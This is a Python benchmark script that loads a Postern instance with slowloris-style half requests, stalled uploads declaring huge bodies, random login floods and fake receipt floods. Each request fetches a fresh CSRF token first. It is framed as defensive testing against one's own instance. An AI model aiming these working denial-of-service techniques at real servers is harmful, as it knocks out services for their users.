#!/usr/bin/env python3
"""Load tool for the "under attack" benchmark (issue 6): what one anonymous client can throw at a
Postern instance. Python 3 standard library only. Run it ONLY against your own test instance.

Usage:
  bench/attack.py [--source URL] [--desk URL] [--org SLUG] [--duration S] MODE ARG

  MODE ARG
  stalled-uploads N   N report uploads, each with a valid form token (fetched first, one per
                      upload), ~400 bytes of multipart, "Content-Length: 100000000", then nothing:
                      the sockets are held open, and one the server cuts is opened again, so up
                      to N stay in flight. Shows how many the server still holds each second.
  half-gets N         N connections that send half a GET ("GET / HTTP/1.1\\r\\nHost: ...\\r\\nX-a: ")
                      and then one more header byte every --trickle seconds (default 5), never
                      finishing; closed ones are reopened, so N stay in flight.
  dropped-logins N    N POST /desk/login to the desk listener with random usernames, a random
                      password and a valid form token; each socket is closed right after sending.
  fake-receipts RATE  well-formed random 25-digit receipts to POST /return, RATE per second, each
                      with a freshly fetched valid token; shows the answers' status codes.

  --source URL   the source site (default http://127.0.0.1:8080)
  --desk URL     the desk listener (default http://127.0.0.1:8081)
  --org SLUG     organization of the report form (default demo, as `bin/postern demo` makes)
  --duration S   how long to hold or keep sending, in seconds (default 60; dropped-logins sends its N
                 at once and then waits out the duration)

Prints one progress line per second: elapsed seconds, sockets open, closed by the server, errors,
and for requests the status codes seen. Example, with `bin/postern demo --port 8080` running:

  bench/attack.py stalled-uploads 5000 &
  bench/attack.py --desk http://127.0.0.1:8081 dropped-logins 300
  bench/attack.py fake-receipts 20
"""
import argparse
import collections
import random
import re
import resource
import selectors
import socket
import string
import sys
import threading
import time
import urllib.parse
import urllib.request

CSRF = re.compile(r'name="csrf" value="([^"]+)"')
BOUNDARY = "----attackBoundary4f9c"


def raise_fd_limit():
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft < hard:
        resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))


def host_port(url):
    u = urllib.parse.urlsplit(url)
    return u.hostname, u.port or (443 if u.scheme == "https" else 80)


def fetch_token(url):
    with urllib.request.urlopen(url, timeout=60) as r:
        m = CSRF.search(r.read().decode("utf-8", "replace"))
    if not m:
        raise RuntimeError("no form token on " + url)
    return m.group(1)


def connect(url, timeout=30):
    s = socket.create_connection(host_port(url), timeout=timeout)
    s.setblocking(False)
    return s


class Progress:
    """Counters printed once per second by a background thread."""

    def __init__(self):
        self.lock = threading.Lock()
        self.counts = collections.Counter()
        self.start = time.monotonic()
        self.stop = False
        self.extra = lambda: ""

    def add(self, key, n=1):
        with self.lock:
            self.counts[key] += n

    def run(self):
        while not self.stop:
            time.sleep(1)
            self.print_line()

    def print_line(self):
        with self.lock:
            parts = " ".join(f"{k}={v}" for k, v in sorted(self.counts.items()))
        print(f"{time.monotonic() - self.start:6.0f} s  {parts} {self.extra()}", flush=True)


def hold(sockets, progress, duration, on_closed=None):
    """Holds sockets until the duration ends; counts the ones the server closes."""
    sel = selectors.DefaultSelector()
    for s in sockets:
        sel.register(s, selectors.EVENT_READ)
    open_count = [len(sockets)]
    progress.extra = lambda: f"open={open_count[0]}"
    end = time.monotonic() + duration
    while time.monotonic() < end:
        for key, _ in sel.select(timeout=0.5):
            s = key.fileobj
            try:
                data = s.recv(65536)
            except OSError:
                data = b""
            if data:
                if data.startswith(b"HTTP/1.1 "):
                    progress.add("answered-" + data[9:12].decode("ascii", "replace"))
                continue
            sel.unregister(s)
            s.close()
            open_count[0] -= 1
            progress.add("closed-by-server")
            if on_closed:
                replacement = on_closed()
                if replacement is not None:
                    sel.register(replacement, selectors.EVENT_READ)
                    open_count[0] += 1
    for key in list(sel.get_map().values()):
        key.fileobj.close()


def stalled_uploads(args, progress):
    n = int(args.arg)
    form = f"{args.source}/o/{args.org}"

    def opener():
        try:
            token = fetch_token(form)
            body = (f"--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"csrf\"\r\n\r\n{token}\r\n"
                    f"--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"what\"\r\n\r\n" + "x" * 250)
            head = (f"POST /o/{args.org}/submit HTTP/1.1\r\nHost: {urllib.parse.urlsplit(args.source).netloc}\r\n"
                    f"Content-Type: multipart/form-data; boundary={BOUNDARY}\r\n"
                    "Content-Length: 100000000\r\n\r\n")
            s = socket.create_connection(host_port(args.source), timeout=30)
            s.sendall((head + body).encode())
            s.setblocking(False)
            progress.add("sent")
            return s
        except OSError as e:
            progress.add("error-" + type(e).__name__)
            return None

    sockets = [s for s in (opener() for _ in range(n)) if s is not None]
    # An upload the server cuts is opened again, so up to N stay in flight for the whole duration.
    hold(sockets, progress, args.duration, on_closed=opener)


def half_gets(args, progress):
    n = int(args.arg)
    host = urllib.parse.urlsplit(args.source).netloc
    head = f"GET / HTTP/1.1\r\nHost: {host}\r\nX-a: ".encode()
    live = []
    lock = threading.Lock()

    def opener():
        try:
            s = socket.create_connection(host_port(args.source), timeout=30)
            s.sendall(head)
            s.setblocking(False)
            progress.add("opened")
            with lock:
                live.append(s)
            return s
        except OSError as e:
            progress.add("error-" + type(e).__name__)
            return None

    def trickle():
        while not progress.stop:
            time.sleep(args.trickle)
            with lock:
                for s in list(live):
                    try:
                        s.send(b"a")
                    except OSError:
                        live.remove(s)

    sockets = [s for s in (opener() for _ in range(n)) if s is not None]
    threading.Thread(target=trickle, daemon=True).start()
    hold(sockets, progress, args.duration, on_closed=opener)


def dropped_logins(args, progress):
    n = int(args.arg)
    hp = host_port(args.desk)
    host = urllib.parse.urlsplit(args.desk).netloc
    for _ in range(n):
        try:
            token = fetch_token(args.desk + "/desk/login")
            user = "".join(random.choices(string.ascii_lowercase, k=10))
            password = "".join(random.choices(string.ascii_letters + string.digits, k=16))
            body = urllib.parse.urlencode({"csrf": token, "username": user, "password": password,
                                           "totp": "%06d" % random.randrange(10 ** 6)})
            request = (f"POST /desk/login HTTP/1.1\r\nHost: {host}\r\n"
                       "Content-Type: application/x-www-form-urlencoded\r\n"
                       f"Content-Length: {len(body)}\r\nConnection: close\r\n\r\n{body}")
            with socket.create_connection(hp, timeout=30) as s:
                s.sendall(request.encode())
            progress.add("sent-and-dropped")
        except OSError as e:
            progress.add("error-" + type(e).__name__)
    remaining = args.duration - (time.monotonic() - progress.start)
    if remaining > 0:
        time.sleep(remaining)


def fake_receipts(args, progress):
    rate = float(args.arg)
    latencies = collections.deque(maxlen=1000)
    progress.extra = lambda: (f"p50={sorted(latencies)[len(latencies) // 2]:.2f}s" if latencies else "")

    def one():
        t0 = time.monotonic()
        try:
            token = fetch_token(args.source + "/return")
            receipt = "".join(random.choices(string.digits, k=25))
            data = urllib.parse.urlencode({"csrf": token, "receipt": receipt}).encode()
            req = urllib.request.Request(args.source + "/return", data=data)
            try:
                with urllib.request.urlopen(req, timeout=120) as r:
                    progress.add(f"status-{r.status}")
            except urllib.error.HTTPError as e:
                progress.add(f"status-{e.code}")
            latencies.append(time.monotonic() - t0)
        except OSError as e:
            progress.add("error-" + type(e).__name__)

    end = time.monotonic() + args.duration
    interval = 1.0 / rate
    next_at = time.monotonic()
    threads = []
    while time.monotonic() < end:
        t = threading.Thread(target=one, daemon=True)
        t.start()
        threads.append(t)
        next_at += interval
        time.sleep(max(0.0, next_at - time.monotonic()))
    # Let the requests in flight be answered (each has its own 120 s timeout).
    for t in threads:
        t.join(timeout=max(0.0, end + 120 - time.monotonic()))


MODES = {"stalled-uploads": stalled_uploads, "half-gets": half_gets,
         "dropped-logins": dropped_logins, "fake-receipts": fake_receipts}


def main():
    p = argparse.ArgumentParser(description="Postern attack load (see the top of this file).")
    p.add_argument("--source", default="http://127.0.0.1:8080")
    p.add_argument("--desk", default="http://127.0.0.1:8081")
    p.add_argument("--org", default="demo")
    p.add_argument("--duration", type=float, default=60)
    p.add_argument("--trickle", type=float, default=5, help="half-gets: seconds between header bytes")
    p.add_argument("mode", choices=sorted(MODES))
    p.add_argument("arg", help="N, or RATE per second for fake-receipts")
    args = p.parse_args()
    args.source = args.source.rstrip("/")
    args.desk = args.desk.rstrip("/")
    raise_fd_limit()
    progress = Progress()
    printer = threading.Thread(target=progress.run, daemon=True)
    printer.start()
    try:
        MODES[args.mode](args, progress)
    except KeyboardInterrupt:
        pass
    finally:
        progress.stop = True
        progress.print_line()


if __name__ == "__main__":
    sys.exit(main())
